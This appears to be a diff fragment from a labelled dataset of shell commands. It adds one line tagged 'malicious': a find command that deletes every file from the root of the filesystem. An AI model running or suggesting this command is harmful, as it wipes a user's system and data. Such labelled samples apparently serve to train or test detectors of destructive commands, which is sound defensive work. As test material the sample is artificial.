@@ -1,0 +1,2 @@
+# label: malicious
+find / -type f -name "*" -delete
